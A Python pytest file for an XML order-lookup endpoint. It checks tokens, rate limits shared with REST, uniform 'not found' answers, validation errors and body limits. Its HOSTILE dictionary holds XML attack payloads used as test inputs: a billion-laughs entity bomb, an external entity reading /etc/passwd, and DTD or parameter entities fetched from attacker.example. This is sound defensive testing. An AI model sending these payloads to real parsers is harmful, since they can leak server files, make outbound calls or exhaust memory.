"""Self-service in XML: a shopper's number and e-mail, an XML body parsed safely, and the
same answers, limits and tokens as the REST look-up."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from channelhub.hub import Hub
from tests.experience.xml.answers import NS, assert_same_as_json, problem, xml_answer
from tests.fixtures.hub import TenantKeys, http_client
from tests.fixtures.orders import Orders

BODY_LIMIT = 4096

LOL = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10)
)
HOSTILE = {
    "billion-laughs": f"<!DOCTYPE lookup [{LOL}]><lookup><number>&lol9;</number>"
    "<email>ana@example.com</email></lookup>",
    "external-entity": '<!DOCTYPE lookup [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<lookup><number>&xxe;</number><email>ana@example.com</email></lookup>",
    "external-dtd": '<!DOCTYPE lookup SYSTEM "http://attacker.example/evil.dtd">'
    "<lookup><number>NW-1001</number><email>ana@example.com</email></lookup>",
    "parameter-entity": '<!DOCTYPE lookup [<!ENTITY % remote SYSTEM "http://attacker.example/x">'
    "%remote;]><lookup><number>NW-1001</number><email>ana@example.com</email></lookup>",
    "harmless-dtd": "<!DOCTYPE lookup [<!ELEMENT lookup ANY>]>"
    "<lookup><number>NW-1001</number><email>ana@example.com</email></lookup>",
}


@pytest.fixture
def settings_overrides() -> dict[str, Any]:
    return {"max_request_body_bytes": BODY_LIMIT}


@pytest.fixture
async def shopper(hub: Hub) -> AsyncIterator[httpx.AsyncClient]:
    async with http_client(hub) as client:
        yield client


def lookup_body(number: str, email: str, namespace: str = "") -> str:
    xmlns = f' xmlns="{namespace}"' if namespace else ""
    return f"<lookup{xmlns}><number>{number}</number><email>{email}</email></lookup>"


async def look_up(
    shopper: httpx.AsyncClient, slug: str, body: str | bytes, **headers: str
) -> httpx.Response:
    return await shopper.post(
        f"/xml/v1/self-service/{slug}/orders/lookup",
        content=body,
        headers={"Content-Type": "application/xml", **headers},
    )


async def test_the_right_number_and_email_give_the_status_and_a_token(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    order = await orders.place(("TENT-1", 1))
    body = lookup_body(" NW-1001 ", " ANA@example.com ", NS["ch"])

    found = await look_up(shopper, tenant.slug, body, **{"Accept-Language": "es-ES,es;q=0.9"})
    result = xml_answer(found, "lookup_result")
    token = result.findtext("ch:token", namespaces=NS)
    assert token is not None
    rest_status = await shopper.get(
        "/v1/self-service/order?lang=es", headers={"X-Order-Token": token}
    )

    status = result.find("ch:status", NS)
    assert status is not None
    assert status.findtext("ch:order_id", namespaces=NS) == order["id"]
    assert_same_as_json(status, rest_status.json())
    assert found.headers["Cache-Control"] == "no-store"


async def test_the_token_reads_the_order_as_rest_does(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    await orders.place(("TENT-1", 1))
    found = xml_answer(
        await look_up(shopper, tenant.slug, lookup_body("NW-1001", "ana@example.com")),
        "lookup_result",
    )
    headers = {"X-Order-Token": found.findtext("ch:token", namespaces=NS) or ""}

    answer = await shopper.get("/xml/v1/self-service/order", headers=headers)
    rest = await shopper.get("/v1/self-service/order", headers=headers)

    status = xml_answer(answer, "customer_status")
    assert_same_as_json(status, rest.json())
    assert status.findtext("ch:code", namespaces=NS) == "confirmed"
    assert status.findtext("ch:language", namespaces=NS) == "pt"


async def test_a_forged_or_missing_token_is_refused(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    await orders.place(("TENT-1", 1))
    found = xml_answer(
        await look_up(shopper, tenant.slug, lookup_body("NW-1001", "ana@example.com")),
        "lookup_result",
    )
    token = found.findtext("ch:token", namespaces=NS) or ""

    forged = await shopper.get(
        "/xml/v1/self-service/order", headers={"X-Order-Token": token[:-2] + "xx"}
    )
    missing = await shopper.get("/xml/v1/self-service/order")

    assert problem(forged, 401)["detail"] == "this link is not valid"
    assert problem(missing, 422)["errors"][0]["parameter"] == "X-Order-Token"


async def test_a_wrong_email_and_an_unknown_order_look_the_same(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    await orders.place(("TENT-1", 1))

    wrong_email = await look_up(shopper, tenant.slug, lookup_body("NW-1001", "eve@example.com"))
    unknown = await look_up(shopper, tenant.slug, lookup_body("NW-9999", "ana@example.com"))
    other_shop = await look_up(shopper, "no-such-shop", lookup_body("NW-1001", "ana@example.com"))

    answers = [problem(r, 404) for r in (wrong_email, unknown, other_shop)]
    for answer in answers:
        answer.pop("request_id")
        answer.pop("instance")
    assert answers[0] == answers[1] == answers[2]
    assert answers[0]["detail"] == "no order matches this number and e-mail address"


async def test_guesses_count_together_with_rest_guesses(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    await orders.place(("TENT-1", 1))

    xml_guesses = [
        await look_up(shopper, tenant.slug, lookup_body("NW-1001", f"guess{i}@example.com"))
        for i in range(3)
    ]
    rest_guesses = [
        await shopper.post(
            f"/v1/self-service/{tenant.slug}/orders/lookup",
            json={"number": "NW-1001", "email": f"rest{i}@example.com"},
        )
        for i in range(2)
    ]
    right = await look_up(shopper, tenant.slug, lookup_body("NW-1001", "ana@example.com"))

    assert [r.status_code for r in xml_guesses + rest_guesses] == [404] * 5
    limited = problem(right, 429)
    assert limited["type"] == "/problems/too-many-requests"
    assert int(right.headers["Retry-After"]) > 0


@pytest.mark.parametrize("body", list(HOSTILE.values()), ids=list(HOSTILE))
async def test_hostile_xml_is_refused_before_anything_happens(
    orders: Orders, tenant: TenantKeys, shopper: httpx.AsyncClient, body: str
) -> None:
    await orders.shop.stock(TENT_1__WH=5)
    await orders.place(("TENT-1", 1))

    refused = [await look_up(shopper, tenant.slug, body) for _ in range(10)]
    still_looking_up = await look_up(
        shopper, tenant.slug, lookup_body("NW-1001", "ana@example.com")
    )

    for answer in refused:
        found = problem(answer, 400)
        assert found["type"] == "/problems/malformed-request"
        assert found["detail"].startswith("document type declarations (DTDs) are not accepted")
    xml_answer(still_looking_up, "lookup_result")


@pytest.mark.parametrize(
    ("body", "detail"),
    [
        pytest.param(b"", "the request body is empty; send an XML document", id="empty"),
        pytest.param(b"<lookup><number>NW-1001</number>", "not well-formed", id="unclosed"),
        pytest.param(b'{"number": "NW-1001"}', "not well-formed", id="json"),
        pytest.param(
            b"<lookup><number>&xxe;</number><email>a@b.pt</email></lookup>",
            "undefined entity",
            id="undeclared-entity",
        ),
        pytest.param(
            b"<lookup><number>NW\x01</number><email>a@b.pt</email></lookup>",
            "not well-formed",
            id="control-character",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="x-bogus"?><lookup/>',
            "encoding cannot be read",
            id="unknown-encoding",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="utf-32"?><lookup/>',
            "encoding cannot be read",
            id="unusable-encoding",
        ),
    ],
)
async def test_malformed_xml_is_a_400_problem(
    tenant: TenantKeys, shopper: httpx.AsyncClient, body: bytes, detail: str
) -> None:
    answer = await look_up(shopper, tenant.slug, body)

    assert detail in problem(answer, 400)["detail"]


@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        pytest.param(lookup_body("NW-1001", "not-an-email"), "#/lookup/email", id="bad-email"),
        pytest.param(
            "<lookup><email>ana@example.com</email></lookup>", "#/lookup/number", id="no-number"
        ),
        pytest.param(lookup_body("NW 1001", "ana@example.com"), "#/lookup/number", id="bad-number"),
        pytest.param(
            "<lookup><number>NW-1001</number><email>a@b.pt</email><phone>1</phone></lookup>",
            "#/lookup/phone",
            id="unknown-element",
        ),
        pytest.param(
            "<lookup><number>NW-1001</number><email>a@b.pt</email><email>c@d.pt</email></lookup>",
            "#/lookup/email",
            id="repeated-element",
        ),
        pytest.param(
            "<lookup><number><value>NW-1001</value></number><email>a@b.pt</email></lookup>",
            "#/lookup/number",
            id="element-inside",
        ),
        pytest.param(
            "<order><number>NW-1001</number><email>a@b.pt</email></order>",
            "#/lookup",
            id="wrong-root",
        ),
        pytest.param(
            lookup_body("NW-1001", "ana@example.com", "urn:other"), "#/lookup", id="other-namespace"
        ),
    ],
)
async def test_a_wrong_field_is_a_422_naming_it(
    tenant: TenantKeys, shopper: httpx.AsyncClient, body: str, pointer: str
) -> None:
    answer = await look_up(shopper, tenant.slug, body)

    refused = problem(answer, 422)
    assert refused["type"] == "/problems/validation"
    assert [error["pointer"] for error in refused["errors"]] == [pointer]
    assert refused["detail"].startswith(pointer)


async def test_a_body_over_the_limit_is_refused(
    tenant: TenantKeys, shopper: httpx.AsyncClient
) -> None:
    padding = "<!-- padding -->" * (BODY_LIMIT // 16)
    body = lookup_body("NW-1001", "ana@example.com").replace("</lookup>", padding + "</lookup>")

    answer = await look_up(shopper, tenant.slug, body)

    assert problem(answer, 413)["detail"] == f"the request body exceeds {BODY_LIMIT} bytes"
